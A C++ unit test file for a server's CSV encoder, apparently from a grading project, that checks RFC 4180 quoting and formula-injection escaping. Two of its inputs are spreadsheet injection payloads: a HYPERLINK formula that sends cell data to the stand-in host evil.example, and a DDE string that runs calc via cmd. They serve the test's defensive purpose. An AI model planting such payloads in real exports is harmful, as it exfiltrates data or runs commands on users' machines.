// The cells of the server's CSVs: RFC 4180 quoting, and text a spreadsheet would run as a
// formula written with a leading apostrophe (API.md §16).
#include "csv_cells.h"

#include <gtest/gtest.h>

namespace headgrader::server {
namespace {

TEST(CsvCells, FieldQuotesOnlyWhatRfc4180Needs) {
  EXPECT_EQ(csv_field("ada"), "ada");
  EXPECT_EQ(csv_field(""), "");
  EXPECT_EQ(csv_field("bob, \"the\" builder"), "\"bob, \"\"the\"\" builder\"");
  EXPECT_EQ(csv_field("two\r\nlines"), "\"two\r\nlines\"");
}

TEST(CsvCells, TextThatStartsAFormulaGetsALeadingApostrophe) {
  EXPECT_EQ(csv_text_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
  EXPECT_EQ(csv_text_cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(csv_text_cell("-2+3"), "'-2+3");
  EXPECT_EQ(csv_text_cell("@SUM(1+1)"), "'@SUM(1+1)");
  EXPECT_EQ(csv_text_cell("\t=1+1"), "'\t=1+1");
  EXPECT_EQ(csv_text_cell("\r=1+1"), "\"'\r=1+1\"");
}

TEST(CsvCells, OtherTextIsOnlyQuoted) {
  EXPECT_EQ(csv_text_cell("ada"), "ada");
  EXPECT_EQ(csv_text_cell(""), "");
  EXPECT_EQ(csv_text_cell("a=b"), "a=b");
  EXPECT_EQ(csv_text_cell("'quoted already"), "'quoted already");
  EXPECT_EQ(csv_text_cell("bob, the builder"), "\"bob, the builder\"");
}

}  // namespace
}  // namespace headgrader::server
